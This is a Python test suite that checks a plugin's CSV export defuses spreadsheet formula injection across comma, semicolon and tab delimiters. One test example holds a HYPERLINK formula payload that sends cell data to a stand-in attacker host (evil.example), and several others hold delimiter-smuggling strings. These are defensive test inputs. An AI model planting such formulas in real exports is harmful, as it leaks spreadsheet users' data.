"""What we write for spreadsheets runs no formula, whatever separates lists where it is opened."""

import ast
import csv
import io
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from plugin.cells import COMMANDS, SEPARATORS, harmless, line
from tests.our_files import ROOMS, text_of, with_suffix

TRICKS = st.text(alphabet=f"{COMMANDS}{SEPARATORS}' ab1(", max_size=12)
NUMBERS = st.integers(-999, 999) | st.decimals(-999, 999, places=2)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@given(rows=st.lists(st.tuples(NUMBERS, TRICKS, NUMBERS, TRICKS, TRICKS), min_size=1, max_size=3))
@example(rows=[(1, 'Export;=HYPERLINK("http://evil.example/?"&A1;"x")', 1, "open", "")])
@example(rows=[(1, "a\n=1", 1, 'b;"=1', "c\t=1")])
@example(rows=[(1, 'a;""=1', -1, ";", "; =1")])
def test_no_cell_begins_with_a_command(
    delimiter: str, rows: list[tuple[int | Decimal, str, int | Decimal, str, str]]
) -> None:
    written = "".join(line(row) for row in rows)
    numbers = [str(cell) for row in rows for cell in row if not isinstance(cell, str)]
    for found in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter):
        for cell in found:
            runs = cell.lstrip(" ").startswith(tuple(COMMANDS))
            assert not runs or cell in numbers or _begins_with_a_number(cell, numbers), (cell, written)


def _begins_with_a_number(cell: str, numbers: list[str]) -> bool:
    """Where lists are not separated by our commas, the first number of a line has all after it in its cell:
    what follows it cannot be computed.
    """
    return any(cell.startswith(f"{one},") for one in numbers)


@given(text=st.text(max_size=30))
def test_read_as_it_is_written_a_text_comes_back_with_marks_alone(text: str) -> None:
    cell, after = next(csv.reader(io.StringIO(line([text, 1]), newline="")))
    assert after == "1"
    assert cell == harmless(text)
    marked = iter(cell)
    assert all(letter in marked for letter in text)
    assert set(cell) <= {*text, "'"}


@pytest.mark.parametrize(
    "text",
    ["", "Export to PDF", "a-b", "e-mail, chat", "“Export” + “import”", "2026-01-01", "https://x/?a=1&b=2"],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_numbers_are_no_text() -> None:
    assert line([-3, Decimal("-1250.00"), 0.5]) == "-3,-1250.00,0.5\r\n"


@pytest.mark.parametrize("between", SEPARATORS)
def test_a_text_in_which_a_cell_may_begin_is_quoted(between: str) -> None:
    assert line([f"a{between}b", "c"]) == '"a{}b",c\r\n'.format(between.replace('"', '""'))


def test_every_csv_is_written_there() -> None:
    writers = {
        str(path)
        for path in with_suffix(".py")
        if path.parts[0] in ROOMS
        for node in ast.walk(ast.parse(text_of(path)))
        if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
        if isinstance(node.value, ast.Name) and node.value.id == "csv"
    }
    assert not writers
